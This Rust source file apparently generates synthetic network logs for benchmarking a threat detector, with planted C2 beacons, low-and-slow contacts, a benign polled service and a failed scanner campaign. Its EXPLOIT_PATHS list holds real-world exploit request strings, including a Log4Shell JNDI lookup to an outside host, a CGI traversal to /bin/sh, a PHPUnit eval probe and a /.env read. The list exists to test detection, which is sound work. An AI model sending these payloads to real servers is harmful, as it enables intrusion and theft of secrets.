//! Networks for measuring detection quality: the demo's benign background (office-hours
//! workstations, servers, web visitors, scanners, developers' SSH) with threats planted by
//! parameter, so that a sweep (`scripts/bench/detection_quality.py`) can ask, cell by cell,
//! whether the planted pairs are found and ranked on top and how many unplanted findings are
//! high or critical.
//!
//! What can be planted:
//! - **beacons**: one to five infected workstations calling one controller over TLS every
//!   `period` seconds jittered uniformly by ±`jitter`, for `span` days starting `offset` days
//!   into the window, with request sizes within ±5 %; the controller is a home line (with a
//!   router's factory certificate on its management port) or a rented server, drawn by seed;
//! - **a shared service**: a share of all workstations polling one vendor name hourly (benign:
//!   it must not be reported as many findings);
//! - **low-and-slow contact**: one workstation reaching a home line a few times a day at random
//!   times (planted);
//! - **a scanner campaign**: sources outside sending one to three exploit requests each with a
//!   scanner's user agent to paths the site does not have, all answered 404 with the site's
//!   not-found page, in the sensor's http log and in the site's access log (`web/access.log`,
//!   beside 60,000 benign lines): benign noise that must not be more than one finding.

use std::io;
use std::path::{Path, PathBuf};

use rand::Rng;
use rand::seq::SliceRandom;
use rand_chacha::ChaCha8Rng;

use crate::out::{self, US};
use crate::records::{self, Cert, TcpState};
use crate::sim::{self, Ctx, TlsSpec, eph_port};
use crate::world;
use crate::zeek;

/// A beacon to plant.
#[derive(Clone, Debug, PartialEq)]
pub struct BeaconPlant {
    pub period_s: f64,
    /// ±share of the period each sleep varies by (0–0.9).
    pub jitter: f64,
    /// Days into the window the beacon starts, and how long it runs.
    pub offset_days: f64,
    pub span_days: f64,
    /// Infected workstations, 1–5.
    pub hosts: usize,
}

/// What to generate.
#[derive(Clone, Debug, PartialEq)]
pub struct QualityConfig {
    pub seed: u64,
    pub hosts: usize,
    pub days: u32,
    /// Epoch seconds UTC, rounded down to the hour.
    pub start: i64,
    pub background_conns_per_host_per_day: u32,
    pub beacon: Option<BeaconPlant>,
    /// Share of workstations polling one vendor service hourly (0 for none).
    pub shared_share: f64,
    /// Contacts a day of one workstation with a home line at random times, over the whole window
    /// (0 for none).
    pub low_and_slow_per_day: f64,
    /// Sources of a failed scanning campaign against the public web site (0 for none).
    pub scanners: usize,
}

impl Default for QualityConfig {
    fn default() -> Self {
        QualityConfig {
            seed: 1,
            hosts: 60,
            days: 21,
            start: 1_717_372_800,
            background_conns_per_host_per_day: 40,
            beacon: None,
            shared_share: 0.0,
            low_and_slow_per_day: 0.0,
            scanners: 0,
        }
    }
}

/// A planted threat: a finding about any of `sources` and `target` (address or name) finds it.
#[derive(Clone, Debug, PartialEq)]
pub struct PlantedPair {
    pub kind: &'static str,
    pub sources: Vec<String>,
    /// The controller's address and the names it was reached by.
    pub targets: Vec<String>,
    pub contacts: u64,
}

/// What [`generate`] wrote.
pub struct QualitySummary {
    pub files: Vec<PathBuf>,
    pub planted: Vec<PlantedPair>,
    /// Benign plants (the shared service, the scanners) by kind and what identifies them.
    pub benign: Vec<PlantedPair>,
}

/// Scanner user agents and exploit paths, as Internet-wide scanners send them.
const SCANNER_AGENTS: &[&str] = &[
    "Mozilla/5.0 zgrab/0.x",
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000562)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
];
const EXPLOIT_PATHS: &[&str] = &[
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
    "/solr/admin/cores?action=${jndi:ldap://198.51.100.1:1389/a}",
    "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php",
    "/pages/createpage-entervariables.action?SpaceKey=x",
    "/autodiscover/autodiscover.json?@zdi/Powershell",
    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array",
    "/.env",
];
/// The public site's not-found page, as the demo's web server (and its access log) serves it.
const NOT_FOUND_BYTES: u64 = 1_245;
const MONTHS: [&str; 12] =
    ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];
/// Benign lines of the public site's access log written beside a scanner campaign.
const WEB_LINES: usize = 60_000;

/// Writes the network under `out_dir` (the demo's layout: a folder per day of hourly logs).
pub fn generate(out_dir: &Path, config: &QualityConfig) -> io::Result<QualitySummary> {
    if config.days == 0 || config.hosts < 6 {
        return Err(io::Error::new(io::ErrorKind::InvalidInput, "at least 1 day and 6 hosts"));
    }
    let start = config.start - config.start.rem_euclid(3_600);
    let hours = config.days as usize * 24;
    let end = start + i64::from(config.days) * 86_400;
    std::fs::create_dir_all(out_dir)?;
    let stream = |n: u64| crate::web::stream(config.seed, n);
    let world = world::World::build(&mut stream(1), start, config.hosts);
    let mut ctx = Ctx::new(zeek::Logs::new(start, hours), world);
    let mut rng = stream(10);
    let workstations: Vec<u32> = ctx.world.workstations.iter().map(|w| w.ip).collect();
    let mut planted = Vec::new();
    let mut benign = Vec::new();
    if let Some(b) = &config.beacon {
        planted.push(beacon(&mut ctx, &mut rng, b, &workstations, start, end));
    }
    if config.shared_share > 0.0 {
        benign.push(shared_service(
            &mut ctx,
            &mut rng,
            config.shared_share,
            &workstations,
            start,
            end,
        ));
    }
    if config.low_and_slow_per_day > 0.0 {
        planted.push(low_and_slow(
            &mut ctx,
            &mut rng,
            config.low_and_slow_per_day,
            &workstations,
            start,
            end,
        ));
    }
    if config.scanners > 0 {
        // The campaign reaches the site's own access log (the `web` table, where the SigmaHQ
        // webserver rules run) as well as the sensor's http log.
        let mut web_log = String::new();
        for line in crate::web::benign_access_log(WEB_LINES, config.seed) {
            web_log.push_str(&line);
            web_log.push('\n');
        }
        benign.push(scanners(&mut ctx, &mut web_log, &mut rng, config.scanners, start, end));
        let web_dir = out_dir.join("web");
        std::fs::create_dir_all(&web_dir)?;
        std::fs::write(web_dir.join("access.log"), web_log)?;
    }
    let background = crate::Background {
        start,
        hours,
        conns_per_host_per_day: config.background_conns_per_host_per_day,
        gzip: false,
    };
    let (files, _) = background.write(&mut ctx, out_dir, &mut stream(3), &mut stream(4))?;
    Ok(QualitySummary { files, planted, benign })
}

/// A self-signed certificate for `name`, added to the world; its index.
fn self_signed(ctx: &mut Ctx, rng: &mut ChaCha8Rng, subject: String, start: i64) -> usize {
    ctx.world.certs.push(Cert {
        fp: out::hex_string(rng, 64),
        serial: out::hex_string(rng, 16).to_ascii_uppercase(),
        issuer: subject.clone(),
        subject,
        not_before: start - rng.gen_range(5..900) * 86_400,
        not_after: start + 700 * 86_400,
        ecdsa: false,
        sans: None,
        ca: false,
    });
    ctx.world.certs.len() - 1
}

/// A home-broadband address (Comcast, Charter, Verizon ranges the bundled data names) or a
/// rented server (Vultr, DigitalOcean, OVH), drawn by the generator.
fn controller(rng: &mut ChaCha8Rng, residential: bool) -> u32 {
    let prefixes: &[[u8; 2]] = if residential {
        &[[73, 54], [98, 113], [71, 58], [24, 130]]
    } else {
        &[[45, 77], [159, 89], [51, 75], [104, 248]]
    };
    let p = prefixes.choose(rng).expect("non-empty");
    out::ipv4(p[0], p[1], rng.gen_range(1..=254), rng.gen_range(1..=254))
}

fn tls_spec<'a>(sni: Option<&'a str>, chain: &'a [usize], port: u16) -> TlsSpec<'a> {
    TlsSpec {
        server_port: port,
        sni,
        tls13: false,
        resumed: false,
        chain,
        validation: "self signed certificate",
        ja3: "72a589da586844d7f0818ce684948eea",
        ja3s: "ae4edc6faf64d08308082ad26be60767",
        next_protocol: None,
        cipher12: "TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384",
    }
}

fn beacon(
    ctx: &mut Ctx,
    rng: &mut ChaCha8Rng,
    b: &BeaconPlant,
    workstations: &[u32],
    start: i64,
    end: i64,
) -> PlantedPair {
    let residential = rng.gen_bool(0.5);
    let c2 = controller(rng, residential);
    let name = format!("cdn-{}.net", out::hex_string(rng, 6));
    let by_name = rng.gen_bool(0.5);
    let leaf = self_signed(ctx, rng, format!("CN={name}"), start);
    let chain = [leaf];
    let spec = tls_spec(by_name.then_some(name.as_str()), &chain, 443);
    let infected: Vec<u32> =
        workstations.choose_multiple(rng, b.hosts.clamp(1, 5)).copied().collect();
    let from = start * US + (b.offset_days * 86_400.0 * US as f64) as i64;
    let until = (from + (b.span_days * 86_400.0 * US as f64) as i64).min(end * US - US);
    let size = rng.gen_range(400..2_000) as f64;
    let mut contacts = 0;
    for &host in &infected {
        let mut t = from + rng.gen_range(0..(b.period_s * US as f64) as i64);
        while t < until {
            let sent = (size * rng.gen_range(0.95..1.05)) as u64;
            let received = rng.gen_range(300..600);
            let dur = rng.gen_range(150_000..900_000);
            ctx.tls(rng, t, host, c2, &spec, dur, sent, received, TcpState::Sf);
            contacts += 1;
            let sleep = b.period_s * (1.0 + rng.gen_range(-b.jitter..=b.jitter));
            t += (sleep.max(1.0) * US as f64) as i64;
        }
    }
    if residential {
        // The relay is a home router whose management port presents its factory certificate.
        let subject = "CN=Vigor Router,OU=DrayTek Support,O=DrayTek Corp.,L=HuKou,ST=HsinChu,C=TW";
        let router = [self_signed(ctx, rng, subject.to_string(), start)];
        let spec = tls_spec(None, &router, 8443);
        ctx.tls(
            rng,
            from.max(start * US + US),
            infected[0],
            c2,
            &spec,
            400_000,
            700,
            9_000,
            TcpState::Sf,
        );
    }
    PlantedPair {
        kind: "beacon",
        sources: infected.iter().map(|h| out::ip_string(*h)).collect(),
        targets: vec![out::ip_string(c2), name],
        contacts,
    }
}

fn shared_service(
    ctx: &mut Ctx,
    rng: &mut ChaCha8Rng,
    share: f64,
    workstations: &[u32],
    start: i64,
    end: i64,
) -> PlantedPair {
    let server = out::ipv4(52, 96, rng.gen_range(1..=254), rng.gen_range(1..=254));
    let name = "telemetry.vendorsoft.example";
    let leaf = self_signed(ctx, rng, format!("CN={name}"), start);
    let chain = [leaf];
    let mut spec = tls_spec(Some(name), &chain, 443);
    spec.validation = "ok";
    let count = ((workstations.len() as f64 * share).round() as usize).clamp(1, workstations.len());
    let pollers: Vec<u32> = workstations.choose_multiple(rng, count).copied().collect();
    let mut contacts = 0;
    for &host in &pollers {
        let mut t = start * US + rng.gen_range(0..3_600 * US);
        while t < end * US {
            ctx.tls(rng, t, host, server, &spec, 300_000, 900, 1_500, TcpState::Sf);
            contacts += 1;
            t += (3_600.0 * rng.gen_range(0.98..1.02) * US as f64) as i64;
        }
    }
    PlantedPair {
        kind: "shared-service",
        sources: pollers.iter().map(|h| out::ip_string(*h)).collect(),
        targets: vec![out::ip_string(server), name.to_string()],
        contacts,
    }
}

fn low_and_slow(
    ctx: &mut Ctx,
    rng: &mut ChaCha8Rng,
    per_day: f64,
    workstations: &[u32],
    start: i64,
    end: i64,
) -> PlantedPair {
    let host = *workstations.choose(rng).expect("workstations");
    let relay = controller(rng, true);
    let mut contacts = 0;
    let mut day = start;
    while day < end {
        let n = sim::poisson(rng, per_day).max(1);
        let mut times: Vec<i64> =
            (0..n).map(|_| day * US + rng.gen_range(0..86_400 * US)).collect();
        times.sort();
        for t in times.into_iter().filter(|t| *t < end * US) {
            let (sent, received) = (rng.gen_range(300..3_000), rng.gen_range(200..8_000));
            let (port, duration) = (eph_port(rng), rng.gen_range(200_000..3_000_000));
            let c = records::tcp(
                rng,
                t,
                host,
                port,
                relay,
                443,
                Some("ssl"),
                duration,
                sent,
                received,
                TcpState::Sf,
            );
            ctx.conn(&c);
            contacts += 1;
        }
        day += 86_400;
    }
    PlantedPair {
        kind: "low-and-slow",
        sources: vec![out::ip_string(host)],
        targets: vec![out::ip_string(relay)],
        contacts,
    }
}

fn scanners(
    ctx: &mut Ctx,
    web_log: &mut String,
    rng: &mut ChaCha8Rng,
    sources: usize,
    start: i64,
    end: i64,
) -> PlantedPair {
    let mut addresses = Vec::new();
    let mut contacts = 0;
    for _ in 0..sources {
        let client = Ctx::public_ip(rng);
        addresses.push(out::ip_string(client));
        let agent = *SCANNER_AGENTS.choose(rng).expect("non-empty");
        let mut ts = rng.gen_range(start * US..(end - 600) * US);
        for _ in 0..rng.gen_range(1..=3) {
            let uri = *EXPLOIT_PATHS.choose(rng).expect("non-empty");
            let request = sim::SiteRequest {
                client,
                uri,
                user_agent: agent,
                status: 404,
                status_msg: "Not Found",
                resp_len: NOT_FOUND_BYTES,
            };
            request.write(ctx, rng, ts);
            // The site's own access log has the same request.
            let (y, mo, d, h, mi, sec) = out::utc_parts(ts / US);
            let month = MONTHS[mo as usize - 1];
            web_log.push_str(&format!(
                "{} - - [{d:02}/{month}/{y}:{h:02}:{mi:02}:{sec:02} +0000] \"GET {uri} HTTP/1.1\" \
                 404 {NOT_FOUND_BYTES} \"-\" \"{agent}\"\n",
                out::ip_string(client)
            ));
            contacts += 1;
            ts += rng.gen_range(1..60) * US;
        }
    }
    PlantedPair {
        kind: "scanners",
        sources: addresses,
        targets: vec![out::ip_string(world::DMZ_WEB), world::PUBLIC_SITE.to_string()],
        contacts,
    }
}
